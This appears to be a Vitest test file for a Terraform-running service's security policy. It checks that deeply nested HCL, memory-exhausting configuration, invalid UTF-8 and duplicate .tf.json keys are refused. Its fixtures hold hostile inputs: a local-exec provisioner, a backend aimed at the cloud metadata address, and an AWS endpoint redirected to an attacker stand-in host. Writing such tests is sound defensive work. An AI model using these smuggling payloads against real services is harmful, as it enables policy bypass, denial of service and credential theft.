// Hostile configuration aimed at the policy's own parsers (issue 9, items 1, 2 and 6): nesting that
// overflowed the shared WASM HCL parser and poisoned Terraform for every tenant, and repeated keys in
// .tf.json that showed the policy one configuration and terraform another. All through the real runner:
// the analysis jail, real terraform, real jails.
import { describe, expect, it } from 'vitest';
import { parseJsonConfig } from '../../src/domains/terraform/policy/json-config.js';
import { checkNesting, MAX_NESTING } from '../../src/domains/terraform/policy/nesting.js';
import { buildZip } from './support/archives.js';
import { files, runTerraform } from './support/runner.js';

const DATA = 'resource "terraform_data" "ok" {\n  input = "x"\n}\n';

describe('nesting checked before any parser', () => {
  it('brackets_inside_strings_and_comments_do_not_count_interpolations_do', () => {
    expect(checkNesting('a.tf', 'a = "[[[[{{{{(((("\n# [[[[[[\n/* {{{{ */\nb = [1]\n', 'hcl')).toBe(1);
    expect(checkNesting('a.tf', 'a = "${[[1]]}"\n', 'hcl')).toBe(3);
    expect(checkNesting('a.tf', 'a = "$${[[[[1]]]]}"\n', 'hcl')).toBe(0);
    expect(checkNesting('a.tf.json', '{"a": "[[[[", "b": [[{}]]}', 'json')).toBe(4);
  });

  it('nesting_past_the_limit_is_refused_naming_file_and_line', () => {
    const deep = `locals {\n  a = ${'['.repeat(MAX_NESTING)}${']'.repeat(MAX_NESTING)}\n}\n`;
    expect(() => checkNesting('main.tf', deep, 'hcl')).toThrow(/main\.tf nests deeper than 100 levels/);
    try {
      checkNesting('main.tf', deep, 'hcl');
    } catch (error) {
      expect((error as { detail?: string }).detail).toMatch(/^main\.tf:2:/);
    }
  });

  it('a_lone_quote_in_a_heredoc_does_not_hide_the_nesting_after_it', () => {
    // The quote opened a "string" that ran to the next quote: the 150-deep list after the heredoc went
    // uncounted, straight to the parser.
    const deep = `locals {\n  h = <<EOT\nit's "quoted\nEOT\n  a = ${'['.repeat(150)}${']'.repeat(150)}\n}\n`;
    expect(() => checkNesting('main.tf', deep, 'hcl')).toThrow(/main\.tf nests deeper than 100 levels/);
    expect(() => checkNesting('main.tf', deep.replace('quoted', 'quoted\\'), 'hcl')).toThrow(/nests deeper than 100 levels/);
  });

  it('repeated_json_key_is_refused_with_its_line', () => {
    expect(() => parseJsonConfig('x.tf.json', '{\n "a": 1,\n "a": 2\n}')).toThrow(/repeats the key "a"/);
    expect(() => parseJsonConfig('x.tf.json', '{"a": {"b": 1}, "c": {"b": 2}}')).not.toThrow(); // same key, different objects
  });
});

describe('the policy parses in a jail', () => {
  it('nested_100k_deep_main_tf_fails_its_own_run_validation_error_and_terraform_keeps_working', async () => {
    // The file that poisoned the shared parser: ~200 KB, `a = [[[...]]]` 100,000 deep.
    const depth = 100_000;
    const hostile = await runTerraform({ input: files({ 'main.tf': `locals {\n  a = ${'['.repeat(depth)}${']'.repeat(depth)}\n}\n` }), mode: 'validate' });
    expect(hostile.error).toMatchObject({ type: 'validation_error', message: 'main.tf nests deeper than 100 levels' });
    expect(hostile.steps).toEqual([]); // terraform never ran
    // The next request, and one after it, are served normally: nothing in the service was damaged.
    for (let i = 0; i < 2; i++) {
      const plain = await runTerraform({ input: files({ 'main.tf': DATA }) });
      expect(plain.error).toBeNull();
      expect(plain.summary?.add).toBe(1);
    }
  });

  it('configuration_that_exhausts_the_parsers_memory_ends_its_own_run_resource_limit_and_the_next_runs', async () => {
    // Within every pre-check (shallow, valid, under TF_MAX_FILE_SIZE) but more than the parser can hold in
    // MEMORY_LIMIT=64: the kernel's memory cgroup ends the analysis jail, not this process.
    let big = '';
    for (let i = 0; i < 40_000; i++) big += `resource "terraform_data" "r${i}" {\n  input = ${i}\n}\n`;
    const hostile = await runTerraform({ input: files({ 'main.tf': big }), mode: 'validate' }, { MEMORY_LIMIT: '64' });
    expect(hostile.error).toMatchObject({ type: 'resource_limit', message: 'configuration analysis exceeded the memory limit (64 MiB)' });
    expect(hostile.steps).toEqual([]);
    const plain = await runTerraform({ input: files({ 'main.tf': DATA }) });
    expect(plain.error).toBeNull();
  });

  it('invalid_utf8_main_tf_is_validation_error_naming_the_file', async () => {
    const result = await runTerraform({ input: { kind: 'zip', data: zipOf('main.tf', Buffer.from([0x6c, 0x6f, 0x63, 0x61, 0x6c, 0x73, 0x20, 0x7b, 0xff, 0xfe, 0x7d, 0x0a])) }, mode: 'validate' });
    expect(result.error).toMatchObject({ type: 'validation_error', message: 'main.tf is not valid UTF-8' });
    expect(result.steps).toEqual([]);
  });
});

describe('.tf.json repeated keys cannot hide what terraform would run', () => {
  // Each pair: a harmless first occurrence, the forbidden block in the second. JSON.parse kept only one
  // of them; terraform uses both. Refused as a whole, so the policy never checks a different configuration.
  const cases: Record<string, string> = {
    provisioner: '{"resource": {"terraform_data": {"a": {}}}, "resource": {"terraform_data": {"b": {"provisioner": {"local-exec": {"command": "id"}}}}}}',
    backend: '{"terraform": {"required_version": ">= 1.0"}, "terraform": {"backend": {"http": {"address": "http://169.254.169.254/"}}}}',
    data_external: '{"data": {"external": {"x": {"program": ["id"]}}}, "data": {"terraform_remote_state": {"y": {"backend": "local"}}}}',
    aws_endpoints: '{"provider": {"aws": {"region": "us-east-1"}}, "provider": {"aws": {"endpoints": {"sts": "http://attacker.invalid"}}}}',
  };
  for (const [name, json] of Object.entries(cases)) {
    it(`repeated_key_hiding_${name}_is_refused_validation_error`, async () => {
      const result = await runTerraform({ input: files({ 'main.tf.json': json }) });
      expect(result.error?.type).toBe('validation_error');
      expect(result.error?.message).toMatch(/^main\.tf\.json repeats the key "/);
      expect(result.error?.detail).toMatch(/^main\.tf\.json:1:/);
      expect(result.steps).toEqual([]);
    });
  }

  it('each_block_written_once_is_checked_as_before', async () => {
    const result = await runTerraform({ input: files({ 'main.tf.json': '{"resource": {"terraform_data": {"b": {"provisioner": {"local-exec": {"command": "id"}}}}}}' }) });
    expect(result.error).toMatchObject({ type: 'security_violation' });
    expect(result.findings.map((f) => f.rule)).toContain('provisioner');
  });
});

function zipOf(name: string, content: Buffer): Buffer {
  return buildZip([{ name, content }]);
}
